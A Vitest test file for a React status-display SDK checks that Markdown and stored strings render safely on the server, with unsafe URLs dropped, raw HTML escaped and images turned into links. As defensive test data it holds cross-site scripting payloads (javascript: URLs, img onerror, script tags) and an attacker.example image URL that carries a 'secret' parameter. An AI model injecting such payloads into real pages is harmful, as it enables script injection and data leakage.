/**
 * The components' rendering of hostile stored text, on the server (react-dom/server), where a
 * page's first HTML is made: Markdown keeps its formatting, raw HTML is escaped text, unsafe URLs
 * are dropped and images are links. test/react/components.test.ts checks the same in Chromium.
 */
import { createElement } from 'react'
import { renderToStaticMarkup } from 'react-dom/server'
import { describe, expect, it } from 'vitest'
import type { RunStatusResponse } from 'pipeline-status-sdk'
import { RunList, RunTimeline, SafeMarkdown } from 'pipeline-status-sdk/react'
import { formatJson, safeUrl } from './markdown.js'

const T0 = '2026-12-06T12:00:00.000Z'

describe('SafeMarkdown', () => {
  it('keeps http(s) and mailto URLs only', () => {
    expect(['https://a.example/x?y=1', 'http://a.example/', 'mailto:a@b.example'].map(safeUrl)).toEqual([
      'https://a.example/x?y=1',
      'http://a.example/',
      'mailto:a@b.example',
    ])
    for (const url of ['javascript:alert(1)', 'JaVaScRiPt:alert(1)', ' javascript:alert(1)', 'data:text/html,<script>', 'vbscript:x', '/relative', '//evil.example', 'not a url']) {
      expect(safeUrl(url), url).toBeUndefined()
    }
  })

  it('renders Markdown as elements and raw HTML as text, with no unsafe URL and no image loaded', () => {
    const html = renderToStaticMarkup(
      createElement(SafeMarkdown, {
        text: [
          '# Title',
          '**bold** and `code`',
          '<img src=x onerror="alert(1)"><script>alert(2)</script>',
          '[js](javascript:alert(3)) [ok](https://example.com)',
          '![pixel](https://attacker.example/p.png?d=secret)',
          '<a href="javascript:alert(4)">raw</a>',
        ].join('\n\n'),
      }),
    )
    expect(html).toContain('<h1>Title</h1>')
    expect(html).toContain('<strong>bold</strong>')
    expect(html).toContain('&lt;img src=x onerror=&quot;alert(1)&quot;&gt;&lt;script&gt;alert(2)&lt;/script&gt;')
    expect(html).toContain('<a href="https://example.com/" rel="noopener noreferrer nofollow ugc">ok</a>')
    expect(html).toContain('<a class="ps-md-image" href="https://attacker.example/p.png?d=secret" rel="noopener noreferrer nofollow ugc">Image: pixel</a>')
    expect(html).not.toMatch(/<img|<script|<iframe|href="javascript|\ssrc="/i)
  })

  it('formats JSON objects and arrays, and leaves other text alone', () => {
    expect(formatJson('{"a":1,"b":[1,2]}')).toBe('{\n  "a": 1,\n  "b": [\n    1,\n    2\n  ]\n}')
    expect(formatJson('  [1]  ')).toBe('[\n  1\n]')
    expect(['"a string"', '42', '{not json', '# Markdown'].map(formatJson)).toEqual([undefined, undefined, undefined, undefined])
  })
})

describe('RunTimeline and RunList in server-rendered HTML', () => {
  it('escapes every stored string: ids, names, errors, last errors, tags', () => {
    const evil = '<img src=x onerror=alert(1)>'
    const status: RunStatusResponse = {
      run: {
        id: 'run-1',
        status: 'FAILED',
        error: `${evil}\nline two`,
        completedAt: T0,
        completionReceivedAt: T0,
        createdAt: T0,
        updatedAt: T0,
        lastActivityAt: null,
        heartbeatIntervalMs: null,
        pipeline: 'default',
        tags: [evil],
        metadata: { note: evil },
        startedAt: T0,
      },
      stages: [
        {
          stageNumber: 1,
          stageName: evil,
          status: 'FAILED',
          output: evil,
          completedAt: T0,
          progress: { seq: 1, current: 3, total: 4, message: evil },
          createdAt: T0,
          updatedAt: T0,
          startedAt: T0,
          attempt: 2,
          maxAttempts: 2,
          lastError: evil,
          nextRetryAt: null,
          outputSeq: null,
        },
      ],
      catalogue: [
        { stageNumber: 1, stageName: 'Fetch' },
        { stageNumber: 2, stageName: 'Load' },
      ],
    }
    const timeline = renderToStaticMarkup(createElement(RunTimeline, { status, now: Date.parse(T0) }))
    const list = renderToStaticMarkup(
      createElement(RunList, {
        runs: [{ ...status.run, version: 3, currentStage: null, stageCounts: { PENDING: 1, PROCESSING: 0, COMPLETED: 0, FAILED: 1, CANCELLED: 0 } }],
        now: Date.parse(T0),
        runHref: '/runs/{runId}',
      }),
    )
    for (const html of [timeline, list]) {
      expect(html).not.toMatch(/<img/i)
      expect(html).toContain('&lt;img src=x onerror=alert(1)&gt;')
    }
    expect(timeline).toContain('Stopped at 3 of 4 · &lt;img')
    expect(timeline).toContain('data-never-ran="true"')
    expect(list).toContain('<a class="ps-run-link ps-runner-text" href="/runs/run-1">run-1</a>')
  })
})
